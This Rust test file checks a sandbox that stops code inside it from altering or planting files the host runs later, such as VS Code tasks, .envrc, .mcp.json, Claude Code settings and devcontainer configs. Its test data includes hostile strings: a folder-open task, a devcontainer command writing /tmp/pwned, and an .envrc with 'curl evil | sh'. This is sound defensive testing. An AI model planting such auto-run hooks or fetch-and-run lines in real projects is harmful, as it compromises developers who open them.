//! Project files that something on the host runs later (`filesystem.hostExecuted`:
//! VS Code tasks, direnv's `.envrc`, Claude Code's project settings and hooks, `.mcp.json`,
//! `.devcontainer/`, `.git/info`): read-only inside when present; created inside, they
//! are moved aside when the session ends.

use crate::support::{require_bwrap, World};

const TASKS: &str = r#"{"version": "2.0.0", "tasks": []}"#;

#[test]
fn present_host_executed_files_cannot_be_written_replaced_removed_or_renamed_away() {
    require_bwrap!();
    let world = World::new();
    world.write("home/proj/.vscode/tasks.json", TASKS);
    world.write("home/proj/.devcontainer/devcontainer.json", "{}");
    let attacks = [
        "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
        "echo x > t && mv t .vscode/tasks.json",
        "rm .vscode/tasks.json",
        "mv .vscode .vscode-old && mkdir .vscode && echo evil > .vscode/tasks.json",
        "echo '{\"initializeCommand\":\"touch /tmp/pwned\"}' > .devcontainer/devcontainer.json",
        "mv .devcontainer .dc-old",
    ];
    for attack in attacks {
        let run = world.sh(&[], attack);
        assert_ne!(run.code(), 0, "{attack} succeeded");
        assert_eq!(world.read("home/proj/.vscode/tasks.json"), TASKS, "{attack}");
        assert_eq!(world.read("home/proj/.devcontainer/devcontainer.json"), "{}", "{attack}");
    }
    // The legitimate use beside it: reading them, and editing ordinary dotfiles, sources
    // and the editor's other settings.
    let run = world.sh(
        &[],
        "cat .vscode/tasks.json && echo root=true > .editorconfig && mkdir -p src && echo 'fn main() {}' > src/main.rs \
         && echo '{}' > .vscode/extensions.json",
    );
    assert_eq!(run.ok(), TASKS);
    assert_eq!(world.read("home/proj/.editorconfig"), "root=true\n");
    assert_eq!(world.read("home/proj/.vscode/extensions.json"), "{}\n");
}

#[test]
fn host_executed_files_created_inside_are_moved_aside_at_exit() {
    require_bwrap!();
    let world = World::new();
    let created = [".envrc", ".mcp.json", ".claude/settings.local.json", ".vscode/tasks.json"];
    let script = "mkdir -p .claude .vscode && echo 'curl evil | sh' > .envrc && echo '{}' > .mcp.json \
                  && echo '{\"hooks\":{}}' > x && mv x .claude/settings.local.json && echo '{}' > .vscode/tasks.json \
                  && echo keep > .vscode/extensions.json";
    let run = world.sh(&[], script);
    run.ok();
    for rel in created {
        assert!(!world.path(&format!("home/proj/{rel}")).exists(), "{rel} left in place:\n{}", run.stderr());
        assert!(run.stderr().contains("is run on the host later"), "{}", run.stderr());
    }
    assert!(run.stderr().contains("to restore it after inspection: mv"), "{}", run.stderr());
    assert_eq!(world.read("home/proj/.vscode/extensions.json"), "keep\n", "ordinary files stay");
}
